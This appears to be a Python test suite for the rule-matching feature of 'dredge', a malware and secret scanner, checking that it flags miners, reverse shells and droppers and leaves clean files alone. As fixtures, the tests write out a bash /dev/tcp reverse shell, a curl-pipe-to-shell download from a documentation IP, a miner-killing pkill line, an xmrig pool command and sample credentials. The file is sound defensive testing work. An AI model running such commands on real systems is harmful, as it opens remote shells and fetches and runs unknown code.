"""dredge rules list / check / match: the shipped packs prove their examples,
user packs are validated with file, line and field, and match finds miners,
reverse shells and droppers in files (text and ELF) without flagging clean
files."""
import json
import os


def _write(t, name, data):
    path = os.path.join(t.tmp, name)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    return path


def test_check_builtin_packs(t):
    p = t.dredge("rules", "check")
    t.exit(p, 0, "rules check")
    last = p.stdout.strip().splitlines()[-1]
    t.ok(last.startswith("rules: ") and last.endswith(", all passed"), last)


def test_list_json(t):
    d = t.dredge_json("rules", "list", "--json")
    ids = {r["id"]: r for r in d["rules"]}
    for rid in ("stratum-url", "xmrig-miner", "miner-config", "reverse-shell-dev-tcp",
                "curl-pipe-shell-ip", "kill-competing-miners", "miner-file-name"):
        t.ok(rid in ids, "rule %s listed" % rid)
    t.eq(ids["reverse-shell-dev-tcp"]["category"], "backdoor", "category")
    t.eq(ids["reverse-shell-dev-tcp"]["strong"], True, "strong")
    t.eq(ids["miner-file-name"]["kind"], ["path"], "kind")
    t.eq(ids["curl-pipe-shell"]["severity"], "medium", "severity")
    t.eq(ids["generic-password"]["text_only"], True, "generic-password text only")
    t.eq(ids["aws-access-key-id"]["text_only"], False, "aws-access-key-id on binaries too")
    d2 = t.dredge_json("rules", "list", "--json", "--disable-rule", "stratum-url")
    t.ok("stratum-url" not in {r["id"] for r in d2["rules"]}, "disabled rule not listed")


def test_unknown_field_in_user_pack(t):
    path = _write(t, "bad.yaml", "pack: mine\nrules:\n  - id: x\n    category: backdoor\n"
                  "    title: X\n    severity: low\n    regex: 'abc'\n    regexp: 'typo'\n")
    p = t.dredge("rules", "list", "--rules", path)
    t.exit(p, 8, "malformed pack")
    t.contains(p.stderr, "'%s' line 8: unknown field 'regexp'" % path, "message")


def test_check_reports_failing_examples(t):
    path = _write(t, "mine.yaml", "pack: mine\nrules:\n  - id: my-rule\n    category: backdoor\n"
                  "    title: Mine\n    severity: high\n    regex: 'evil[0-9]+'\n"
                  "    examples: ['evil42', 'good']\n    negative_examples: ['evil7']\n")
    p = t.dredge("rules", "check", "--rules", path)
    t.exit(p, 1, "failing check")
    t.contains(p.stdout, "FAIL my-rule ('%s' line 3): example 2 (content) good" % path, "example")
    t.contains(p.stdout, "FAIL my-rule ('%s' line 3): negative example 1 (content) evil7" % path,
               "negative")
    t.contains(p.stdout, "2 failed", "summary")


def test_match_miner_script_and_config(t):
    sh = _write(t, "start.sh", "#!/bin/sh\ncd /opt\n"
                "./nginx -a cryptonight -o stratum+tcp://pool.supportxmr.com:45560 -u 4A -p x\n")
    cfg = _write(t, "config.json", json.dumps({
        "donate-level": 1, "cpu": {"enabled": True},
        "pools": [{"url": "pool.example.net:80", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8Aem",
                   "pass": "x"}]}, indent=2))
    d = t.dredge_json("rules", "match", "--json", sh, cfg)
    by = {}
    for f in d["findings"]:
        by.setdefault(f["rule"], []).append(f)
    for rid in ("miner-pool-option", "stratum-url", "mining-pool-host", "miner-config"):
        t.ok(rid in by, "finding %s in %s" % (rid, sorted(by)))
    f = by["miner-pool-option"][0]
    t.eq(f["category"], "cryptominer", "category")
    t.eq(f["strong"], True, "strong")
    t.eq(f["locations"][0]["line"], 3, "line")
    t.eq(f["locations"][0]["path"], sh.lstrip("/"), "path as in an image")
    t.eq(by["mining-pool-host"][0]["evidence"], "pool.supportxmr.com", "evidence")
    t.eq(by["miner-config"][0]["strong"], True, "config strong")
    t.eq(d["stats"]["files"], 2, "files")


def test_match_renamed_xmrig_elf(t):
    body = (b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"XMRig/%s\0donate.v2.xmrig.com\0"
            b"--donate-level=N\0rx/0\0cn/r\0argon2/chukwa\0RandomX\0" + b"\0" * 70000 +
            b"stratum+tcp\0")
    elf = _write(t, "nginx", body)
    d = t.dredge_json("rules", "match", "--json", elf)
    f = [x for x in d["findings"] if x["rule"] == "xmrig-miner"]
    t.eq(len(f), 1, "xmrig-miner findings")
    t.eq(f[0]["locations"][0].get("line"), None, "no line in a binary")
    t.eq(f[0]["severity"], "critical", "severity")


def test_assignment_rules_skip_binaries(t):
    # the same lines as a config file and as strings of an ELF file: in the
    # binary only the self-identifying AWS key id is reported
    body = (b'db_password = "Tz8kQ2vL9wX4mN7p"\naws_key_id = AKIAQ3EGRV2CRX7LKW5N\n'
            b'api_key = "k3j4h5g6f7d8s9a0q1w2e3r4"\n')
    cfg = _write(t, "app.conf", body)
    elf = _write(t, "app", b"\x7fELF\x02\x01\x01" + b"\0" * 57 + body.replace(b"\n", b"\0"))
    d = t.dredge_json("rules", "match", "--json", cfg, elf)
    got = sorted((f["rule"], loc["path"].rsplit("/", 1)[-1], loc.get("line"))
                 for f in d["findings"] for loc in f["locations"])
    t.eq(got, [("aws-access-key-id", "app", None), ("aws-access-key-id", "app.conf", 2),
               ("generic-password", "app.conf", 1), ("generic-secret", "app.conf", 3)],
         "findings by rule, file and line")


def test_match_backdoors_from_stdin(t):
    text = ("echo ok\n"
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
            "curl -fsSL http://198.51.100.23/x.sh | sh\n"
            "pkill -f kdevtmpfsi; chmod +x /tmp/kworker\n")
    p = t.dredge("rules", "match", "--json", "-", input=text)
    t.exit(p, 0, "match stdin")
    rules = {(f["rule"], f["locations"][0]["line"]) for f in json.loads(p.stdout)["findings"]}
    for want in (("reverse-shell-dev-tcp", 2), ("curl-pipe-shell-ip", 3), ("curl-pipe-shell", 3),
                 ("kill-competing-miners", 4), ("temp-chmod-exec", 4)):
        t.ok(want in rules, "%s in %s" % (want, sorted(rules)))
    p = t.dredge("rules", "match", "--json", "--disable-rule", "curl-pipe-shell-ip", "-",
                 input=text)
    t.ok("curl-pipe-shell-ip" not in p.stdout, "disabled rule silent")


def test_match_clean_files(t):
    clean = _write(t, "clean.sh", "#!/bin/sh\nset -e\napt-get update\n"
                   "curl -fsSL -o /tmp/get.tgz https://example.com/get.tgz\n"
                   "echo 'xmrig is a miner we block' > /etc/motd\n")
    d = t.dredge_json("rules", "match", "--json", clean, "/usr/bin/bash")
    mine = [f["rule"] for f in d["findings"]
            if f["category"] in ("cryptominer", "backdoor", "suspicious-build")]
    t.eq(mine, [], "no miner/backdoor/build findings on clean files")


def test_usage_errors(t):
    t.exit(t.dredge("rules"), 2, "no subcommand")
    t.exit(t.dredge("rules", "frob"), 2, "unknown subcommand")
    t.exit(t.dredge("rules", "match"), 2, "match without files")
    t.exit(t.dredge("rules", "list", "--disable-rule", "no-such-rule"), 2, "unknown rule")
    p = t.dredge("rules", "--help")
    t.exit(p, 0, "help")
    t.contains(p.stdout, "dredge rules match", "usage")


def test_match_caches_a_sieve_in_the_cache_dir(t):
    """A rule confirmed ENGINE_SIEVE_AFTER (256) times in one scan gets its
    sieve compiled then, late in the run: it goes to the cache directory the
    run began with, and nowhere else."""
    lines = ['<add key="Setting%d" value="plain" />%s' % (i, " " * 1200) for i in range(400)]
    conf = _write(t, "web.config", "\n".join(lines) + "\n")
    empty = _write(t, "empty.txt", "")
    cache, work = os.path.join(t.tmp, "cache"), os.path.join(t.tmp, "work")
    os.mkdir(work)
    env = {"DREDGE_CACHE_DIR": cache}
    t.exit(t.dredge("rules", "match", empty, env=env, cwd=work), 0, "match an empty file")
    base = sorted(os.listdir(cache))
    p = t.dredge("rules", "match", conf, env=env, cwd=work)
    t.exit(p, 0, "match 400 settings")
    t.eq(p.stdout, "", "no finding: the values are not secrets")
    added = sorted(set(os.listdir(cache)) - set(base))
    t.eq(len(added), 1, "one sieve database added to the cache")
    t.ok(added[0].startswith("hs-") and added[0].endswith(".db"), "a database file")
    t.eq(os.listdir(work), [], "nothing written where the command ran")
